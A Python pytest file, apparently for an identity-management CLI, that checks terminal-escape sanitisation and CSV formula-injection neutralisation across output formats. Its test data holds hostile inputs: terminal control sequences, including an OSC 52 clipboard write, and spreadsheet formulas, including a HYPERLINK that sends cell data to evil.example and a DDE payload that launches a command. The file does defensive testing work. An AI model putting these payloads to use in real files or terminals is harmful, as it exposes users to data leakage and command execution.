"""Untrusted text in every output format: nothing that drives a terminal reaches it raw, yet the data stays
exact; CSV cells a spreadsheet would evaluate are neutralised, and the import undoes it (issue 24)."""

from __future__ import annotations

import csv
import io
import json

import pytest

from identity_tui.core.display import UNSAFE
from tests.support.hostile_server import Answer, HostileServer, identity

EVIL = ("\x1b]2;TITLE\x07 \x1b]52;c;aGk=\x07 \x1b[2J \x9b31m \u202eevil\u202c \u2067x\u2069 "
        "\u200f\u061c\u200e a\u2028b\u2029c \x7f\x85 tab\there end")
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "@SUM(1)",
            "-2+3", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", '"quoted" start', "'apostrophe", "ok"]
TRIGGERS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def raw_unsafe(text: str) -> set[str]:
    """Every character of ``text`` that would reach a terminal raw, the line breaks between lines aside."""
    return {m.group() for line in text.split("\n") for m in UNSAFE.finditer(line)}


def strict_json(text: str):
    def refuse(name):
        raise ValueError(f"{name} is not JSON")
    return json.loads(text, parse_constant=refuse)


@pytest.fixture
def hostile():
    with HostileServer() as server:
        yield server


def evil_identity() -> dict:
    return identity(EVIL, key=f"key{EVIL}", project_id=f"proj{EVIL}", properties=[
        {"key": f"k{EVIL}", "type": "string", "value": EVIL},
        {"key": "j", "type": "json", "value": {EVIL: [EVIL]}},
    ])


@pytest.mark.parametrize("command", [["list", "--format", "json"], ["list", "--format", "jsonl"],
                                     ["export", "--format", "json"], ["export", "--format", "jsonl"]])
def test_json_output_escapes_what_would_drive_a_terminal_and_keeps_the_data(hostile, cli, command):
    item = evil_identity()
    hostile.identities([item])
    ran = cli(*command, *hostile.args())
    assert ran.code == 0, ran.err
    assert raw_unsafe(ran.out) == set() and raw_unsafe(ran.err) == set()
    got = strict_json(ran.out) if "json" in command else [strict_json(line) for line in ran.out.splitlines()]
    assert got == [item]


@pytest.mark.parametrize("form", ["json", "table"])
def test_get_in_either_format_escapes_and_json_keeps_the_data(hostile, cli, form):
    item = evil_identity()
    hostile.identities([item])
    ran = cli("get", item["id"], "--format", form, *hostile.args())
    assert ran.code == 0, ran.err
    assert raw_unsafe(ran.out) == set()
    if form == "json":
        assert strict_json(ran.out) == item
    else:
        assert "\\x1b]2;TITLE\\x07" in ran.out and "\\u200f" in ran.out and "\\u2028" in ran.out


@pytest.mark.parametrize("command", [["list", "--format", "csv"], ["export", "--format", "csv"],
                                     ["list", "--format", "table"]])
def test_csv_and_table_output_escape_what_would_drive_a_terminal(hostile, cli, command):
    hostile.identities([evil_identity()])
    ran = cli(*command, *hostile.args())
    assert ran.code == 0, ran.err
    assert raw_unsafe(ran.out) == set() and raw_unsafe(ran.err) == set()
    if command[-1] == "csv":
        rows = list(csv.reader(io.StringIO(ran.out)))
        assert len(rows) == 2 and len(rows[0]) == len(rows[1])


def test_an_error_sentence_escapes_the_servers_words(hostile, cli):
    hostile.answer("GET", "/v1/identities/*", Answer(500, json.dumps({"detail": EVIL}).encode()))
    ran = cli("get", "identity-00000000-0000-4000-8000-000000000000", *hostile.args())
    assert ran.code != 0 and ran.err.count("\n") == 1
    assert raw_unsafe(ran.err) == set()


@pytest.mark.parametrize("properties", [[{"key": "j", "type": "json", "value": [5, "x", None]}], [5, "x", None]],
                         ids=["json-array-value", "properties-not-objects"])
def test_what_the_server_refuses_to_store_still_shows_in_a_table(hostile, cli, properties):
    """The server refuses an array for a json property, but one stored by other means must still show."""
    item = identity("Arr", properties=properties)
    hostile.identities([item])
    ran = cli("get", item["id"], "--format", "table", *hostile.args())
    assert ran.code == 0, ran.err
    assert ('j (json) = [5, "x", null]' if len(properties) == 1 else '  5\n  "x"\n  null') in ran.out
    assert cli("list", "--format", "table", *hostile.args()).code == 0
    assert strict_json(cli("list", "--format", "csv", *hostile.args()).out.splitlines()[1].split(",", 5)[5]
                       .strip('"').replace('""', '"')) == properties
    ran = cli("export", "--format", "csv", *hostile.args())
    if len(properties) == 1:
        assert ran.code == 0 and '"[5,""x"",null]"' in ran.out.replace(" ", "")
    else:  # CSV has no column for it: one sentence, and JSON lines carry it
        assert ran.code == 1 and ran.err.count("\n") == 1 and "--format jsonl" in ran.err
        assert strict_json(cli("export", "--format", "jsonl", *hostile.args()).out) == item


def test_infinity_from_the_server_is_written_as_valid_json_in_every_format(hostile, cli):
    """A server holding 1e400 sends it back; the output stays valid JSON and means the same number."""
    raw = identity("Big", properties=[{"key": "big", "type": "number", "value": 0}])
    text = json.dumps([raw]).replace('"value": 0', '"value": 1e400').encode()
    hostile.identities([raw], raw=text)
    for command in (["list", "--format", "json"], ["export", "--format", "json"], ["get", raw["id"], "--format", "json"]):
        ran = cli(*command, *hostile.args())
        assert ran.code == 0, ran.err
        value = strict_json(ran.out)
        prop = (value if isinstance(value, dict) else value[0])["properties"][0]
        assert prop["value"] == float("inf")
    for command in (["list", "--format", "jsonl"], ["export", "--format", "jsonl"]):
        ran = cli(*command, *hostile.args())
        assert strict_json(ran.out)["properties"][0]["value"] == float("inf")
    ran = cli("export", "--format", "csv", *hostile.args())
    rows = list(csv.DictReader(io.StringIO(ran.out)))
    assert strict_json(rows[0]["prop:big:number"]) == float("inf")
    ran = cli("list", "--format", "csv", *hostile.args())
    rows = list(csv.DictReader(io.StringIO(ran.out)))
    assert strict_json(rows[0]["properties"])[0]["value"] == float("inf")


# -- spreadsheets -------------------------------------------------------------------------------------


def formula_identities() -> list[dict]:
    return [{"identifier_key": f"f{i}-{text}", "name": text, "identity_type": "user",
             "properties": [{"key": "v", "type": "string", "value": text},
                            {"key": f"{text}", "type": "string", "value": "x"}]}
            for i, text in enumerate(FORMULAS)]


@pytest.mark.parametrize("command", [["list", "--format", "csv"], ["export", "--format", "csv"]])
def test_no_csv_cell_starts_as_a_formula(sandbox_server, cli, command):
    for body in formula_identities():
        assert sandbox_server.http.post("/v1/identities/", json=body).status_code == 200
    ran = cli(*command)
    assert ran.code == 0, ran.err
    rows = list(csv.reader(io.StringIO(ran.out)))
    assert len(rows) == len(FORMULAS) + 1
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS), cell


def test_a_csv_export_with_formulas_imports_exactly(sandbox_server, cli, tmp_path):
    for body in formula_identities():
        assert sandbox_server.http.post("/v1/identities/", json=body).status_code == 200
    before = cli("export", "--format", "jsonl")
    path = tmp_path / "f.csv"
    assert cli("export", "-o", str(path)).code == 0
    for item in map(json.loads, before.out.splitlines()):
        assert cli("delete", item["id"], "--yes").code == 0
    ran = cli("import", str(path), "--yes", "--concurrency", "1")
    assert ran.code == 0, ran.out + ran.err
    after = cli("export", "--format", "jsonl")

    def keyed(text):
        return sorted(({**i, "id": None, "properties": sorted(i["properties"], key=lambda p: p["key"])}
                       for i in map(json.loads, text.splitlines())), key=lambda i: i["identifier_key"])

    assert keyed(after.out) == keyed(before.out)


@pytest.mark.parametrize("output_format", ["text", "json"])
def test_an_import_plan_escapes_what_the_file_holds(sandbox_server, cli, tmp_path, output_format):
    rows = [{"identifier_key": f"imp{EVIL}", "name": EVIL, "identity_type": "user",
             "properties": [{"key": f"k{EVIL}", "type": "string", "value": EVIL}]},
            {"identifier_key": "bad", "name": EVIL, "identity_type": "user",
             "properties": [{"key": f"n{EVIL}", "type": "number", "value": EVIL}]}]
    path = tmp_path / "evil.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    ran = cli("import", str(path), "--dry-run", "--output-format", output_format)
    assert ran.code == 2, ran.err
    assert "1 create" in ran.out or '"create": 1' in ran.out
    assert raw_unsafe(ran.out) == set() and raw_unsafe(ran.err) == set()
